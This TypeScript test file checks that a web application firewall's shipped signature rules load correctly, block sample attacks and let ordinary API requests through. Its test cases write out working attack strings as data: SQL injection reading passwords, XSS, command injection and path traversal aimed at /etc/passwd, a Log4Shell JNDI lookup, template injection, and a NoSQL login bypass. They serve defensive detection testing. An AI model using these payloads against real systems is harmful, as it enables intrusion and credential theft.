import assert from 'node:assert/strict';
import { test } from 'node:test';
import { requestInputs } from '../inputs.js';
import { compileSignatures, loadSignatureRules } from '../signatures.js';
import { BUILTIN_DETECTORS, SHIPPED_SIGNATURES_DIR } from './index.js';

test('every shipped rule file loads with the built-in detectors, ids unique, at every paranoia level', async () => {
  const rules = await loadSignatureRules([SHIPPED_SIGNATURES_DIR], BUILTIN_DETECTORS);
  assert.ok(rules.length >= 30);
  const levels = [1, 2, 3, 4].map((paranoia) => compileSignatures(rules, BUILTIN_DETECTORS, { paranoia }).rules.length);
  assert.deepEqual(
    [...levels].sort((a, b) => a - b),
    levels,
    'a higher paranoia level never has fewer rules',
  );
  for (const rule of rules) if (rule.detector !== undefined) assert.ok(BUILTIN_DETECTORS[rule.detector], rule.id);
});

test('the shipped rules at paranoia 1 block one attack of each main family and pass ordinary API traffic', async () => {
  const set = compileSignatures(await loadSignatureRules([SHIPPED_SIGNATURES_DIR], BUILTIN_DETECTORS), BUILTIN_DETECTORS);
  const score = (query: string, body?: string): number =>
    set.inspect(
      requestInputs({
        path: '/api/v1/orders',
        query,
        headers: body === undefined ? {} : { 'content-type': 'application/json' },
        body: body === undefined ? undefined : Buffer.from(body),
      }).inputs,
    ).score;
  const attacks = [
    `id=${encodeURIComponent("1' UNION SELECT username, password FROM users--")}`,
    `q=${encodeURIComponent('<svg onload=alert(document.domain)>')}`,
    `host=${encodeURIComponent('127.0.0.1; cat /etc/passwd')}`,
    `file=${encodeURIComponent('../../../../etc/passwd')}`,
    `name=${encodeURIComponent(['$', '{jndi:ldap://203.0.113.9/a}'].join(''))}`,
    `tpl=${encodeURIComponent('{{7*7}}{{config.__class__.__init__.__globals__}}')}`,
  ];
  for (const attack of attacks) assert.ok(score(attack) >= set.threshold, attack);
  assert.ok(score('', '{"user":{"$ne":null},"password":{"$ne":null}}') >= set.threshold, 'NoSQL operators');
  const benign = [
    'page=2&per_page=50&sort=-created_at',
    `q=${encodeURIComponent("O'Brien & Sons, select the best option (or not)")}`,
    `email=${encodeURIComponent('jane.doe+shop@example.com')}&since=2026-11-30T10:00:00Z`,
    `redirect=${encodeURIComponent('https://shop.example.com/cart?step=2')}`,
  ];
  for (const query of benign) assert.equal(score(query), 0, query);
  assert.equal(score('', '{"items":[{"sku":"A-100","qty":2}],"note":"leave at the door; ring twice"}'), 0);
});

test('SQL injection is read in an API’s own headers, not in the headers a browser fills in by itself', async () => {
  const set = compileSignatures(await loadSignatureRules([SHIPPED_SIGNATURES_DIR], BUILTIN_DETECTORS), BUILTIN_DETECTORS);
  const rulesOn = (headers: Record<string, string>): string[] =>
    set.inspect(requestInputs({ path: '/api/v1/orders', query: '', headers }).inputs).matches.map((m) => m.ruleId);
  assert.ok(rulesOn({ 'x-tenant-id': "7' AND 1=1 UNION SELECT password FROM users--" }).includes('sqli/tokens'));
  assert.ok(rulesOn({ 'x-request-id': "123) AND 12=12 AND JSON_DEPTH('{}') != 2521" }).includes('sqli/tokens'));
  const browser = {
    'sec-ch-ua': '"Chromium";v="122", "Not(A:Brand";v="24", "Google Chrome";v="122"',
    accept: 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8',
    'accept-language': 'en-US;q=0.8,en;q=0.7',
    'x-tenant-id': 'acme-eu-1',
    authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl',
  };
  assert.deepEqual(rulesOn(browser), []);
});
